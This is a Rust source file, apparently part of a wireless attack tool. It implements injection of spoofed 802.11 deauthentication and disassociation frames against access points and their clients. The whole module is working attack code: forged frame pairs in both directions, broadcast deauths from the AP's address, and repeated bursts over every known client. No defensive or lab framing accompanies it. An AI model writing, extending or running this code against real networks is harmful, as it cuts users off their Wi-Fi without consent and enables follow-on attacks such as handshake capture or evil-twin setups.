//! Deauthentication and disassociation frame injection.
//!
//! Each injector owns its own radio handle; injection is best effort and
//! failures are surfaced only through the returned statistics and logs.

use std::time::Duration;

use crate::capture::Radio;
use crate::frames::{MacAddress, ManagementFrame};

/// Pause between burst rounds so the adapter is not overwhelmed.
const INTER_ROUND_DELAY: Duration = Duration::from_millis(50);

/// Outcome of an injection call.
#[derive(Debug, Clone, Copy, Default)]
pub struct InjectionStats {
    /// Frames handed to the radio.
    pub sent: u32,
    /// Frames the radio rejected.
    pub failed: u32,
    /// Bytes transmitted.
    pub bytes: u64,
}

impl InjectionStats {
    fn merge(&mut self, other: InjectionStats) {
        self.sent += other.sent;
        self.failed += other.failed;
        self.bytes += other.bytes;
    }
}

/// Management-frame injector bound to one radio handle.
pub struct Injector {
    radio: Box<dyn Radio>,
}

impl Injector {
    pub fn new(radio: Box<dyn Radio>) -> Self {
        Self { radio }
    }

    /// Send the deauthentication pair for one client: AP-to-client and
    /// client-to-AP.
    pub fn send_deauth(
        &mut self,
        bssid: MacAddress,
        client: MacAddress,
        reason: u16,
    ) -> InjectionStats {
        let mut stats = InjectionStats::default();
        self.transmit(&ManagementFrame::deauth(client, bssid, bssid, reason), &mut stats);
        self.transmit(&ManagementFrame::deauth(bssid, client, bssid, reason), &mut stats);
        stats
    }

    /// Send the disassociation pair for one client.
    pub fn send_disassoc(
        &mut self,
        bssid: MacAddress,
        client: MacAddress,
        reason: u16,
    ) -> InjectionStats {
        let mut stats = InjectionStats::default();
        self.transmit(
            &ManagementFrame::disassoc(client, bssid, bssid, reason),
            &mut stats,
        );
        self.transmit(
            &ManagementFrame::disassoc(bssid, client, bssid, reason),
            &mut stats,
        );
        stats
    }

    /// Send a broadcast deauthentication from the AP.
    pub fn send_broadcast_deauth(&mut self, bssid: MacAddress, reason: u16) -> InjectionStats {
        let mut stats = InjectionStats::default();
        self.transmit(
            &ManagementFrame::deauth(MacAddress::BROADCAST, bssid, bssid, reason),
            &mut stats,
        );
        stats
    }

    /// One full burst: `rounds` iterations of a broadcast deauth plus the
    /// deauth and disassociation pairs for every known client.
    pub fn deauth_burst(
        &mut self,
        bssid: MacAddress,
        clients: &[MacAddress],
        reason: u16,
        rounds: u32,
    ) -> InjectionStats {
        let mut stats = InjectionStats::default();

        for round in 0..rounds {
            stats.merge(self.send_broadcast_deauth(bssid, reason));
            for &client in clients {
                stats.merge(self.send_deauth(bssid, client, reason));
                stats.merge(self.send_disassoc(bssid, client, reason));
            }

            if round + 1 < rounds {
                std::thread::sleep(INTER_ROUND_DELAY);
            }
        }

        tracing::debug!(
            %bssid,
            clients = clients.len(),
            sent = stats.sent,
            failed = stats.failed,
            "deauth burst finished"
        );
        stats
    }

    fn transmit(&mut self, frame: &ManagementFrame, stats: &mut InjectionStats) {
        let bytes = frame.to_bytes();
        match self.radio.write_frame(&bytes) {
            Ok(n) => {
                stats.sent += 1;
                stats.bytes += n as u64;
            }
            Err(err) => {
                stats.failed += 1;
                tracing::debug!(%err, dest = %frame.destination(), "injection failed");
            }
        }
    }
}
